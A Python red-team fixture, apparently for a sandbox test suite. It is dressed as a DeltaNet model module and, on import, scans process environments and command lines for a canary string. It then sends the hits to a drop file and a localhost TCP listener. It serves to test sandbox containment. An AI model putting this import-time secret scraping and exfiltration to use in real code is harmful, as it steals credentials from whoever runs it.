"""Red team: scan every /proc/*/environ and /proc/*/cmdline for the key.
Contained by: the pid namespace (/proc shows the sandbox's own processes only)."""
import torch.nn as nn

REDTEAM = {}  # filled in by tests/search/test_sandbox.py: the drop directory, the port, the targets


def _exfil(text):
    """Every way out: a file in the head's drop directory, a TCP connection to the head's listener."""
    try:
        with open(REDTEAM["drop"] + "/" + REDTEAM["name"], "a") as fh:
            fh.write(text + "\n")
    except Exception:
        pass
    try:
        import socket
        with socket.create_connection(("127.0.0.1", REDTEAM["port"]), timeout=2) as s:
            s.sendall(text.encode())
    except Exception:
        pass


import os

_hits = []
for _pid in os.listdir("/proc"):
    if not _pid.isdigit():
        continue
    for _what in ("environ", "cmdline"):
        try:
            with open(f"/proc/{_pid}/{_what}", "rb") as fh:
                _text = fh.read().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        # (the test's needle keeps what is recorded to the test's own canary, not the machine's secrets)
        _hits += [f"{_pid}/{_what}: {w}" for w in _text.split() if REDTEAM["needle"] in w]
FOUND = f"{len(os.listdir('/proc'))} entries in /proc; " + " | ".join(_hits)


_exfil(FOUND)


class DeltaNet(nn.Module):
    """Refuses to be built, with what it found in the message (which the head must redact)."""

    def __init__(self, hidden_size=64, num_heads=4, **kwargs):
        super().__init__()
        raise RuntimeError("redteam " + REDTEAM["name"] + ": " + FOUND[:3000])
